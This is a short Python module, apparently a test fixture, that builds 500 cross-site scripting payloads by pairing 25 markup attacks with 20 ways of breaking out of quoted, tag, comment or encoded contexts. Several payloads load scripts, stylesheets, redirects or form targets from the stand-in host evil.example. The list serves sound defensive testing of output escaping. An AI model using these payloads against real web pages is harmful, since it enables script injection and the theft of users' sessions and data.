"""Texts that would run a script, or load something from elsewhere, if a page took them for markup."""

_ATTACKS = (
    "<script data-planted>ran=1</script>",
    "<ScRiPt data-planted>ran=1</sCrIpT>",
    "<script src=//evil.example data-planted></script>",
    "<img src=x onerror=ran=1 data-planted>",
    "<img src='//evil.example/x' data-planted>",
    "<svg onload=ran=1 data-planted>",
    "<math><mi xlink:href=javascript:ran=1 data-planted>",
    "<a href=javascript:ran=1 data-planted>x</a>",
    "javascript:ran=1//data-planted",
    " onfocus=ran=1 autofocus data-planted=",
    "<input onblur=ran=1 autofocus data-planted>",
    "<x contenteditable onblur=ran=1 data-planted>x",
    "<details open ontoggle=ran=1 data-planted>",
    "<marquee onstart=ran=1 data-planted>",
    "<video><source onerror=ran=1 data-planted>",
    "<body onload=ran=1 data-planted>",
    "<iframe srcdoc='<script>parent.ran=1</script>' data-planted>",
    "<object data=data:text/html,ran data-planted>",
    "<template data-planted><script>ran=1</script>",
    "<style data-planted>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example data-planted>",
    "<base href=//evil.example data-planted>",
    "<meta http-equiv=refresh content=0;url=//evil.example data-planted>",
    "<form action=//evil.example data-planted><button>x",
    "{{ 7 * 7 }}{% raw %}<b data-planted>",
)
_WAYS_OUT = (
    *(("", ""), ('"', ""), ("'", ""), (">", "<"), ('">', ""), ("'>", ""), ("</textarea>", ""), ("</title>", "")),
    *(("</code></pre>", ""), ("<!--", "-->"), ("</script>", ""), ("\\", "\\"), ("`${", "}`"), ("]]>", "")),
    *(("\r\n\r\n", ""), ("&lt;", "&gt;"), ("\u2028", "\u202e"), ("%22%3E", "%3C"), ("\ufeff", ""), ("a" * 60, "")),
)

PAYLOADS = [before + attack + after for attack in _ATTACKS for before, after in _WAYS_OUT]
"""500 of them: each attack in each way to get out of where it stands. What they plant has data-planted."""
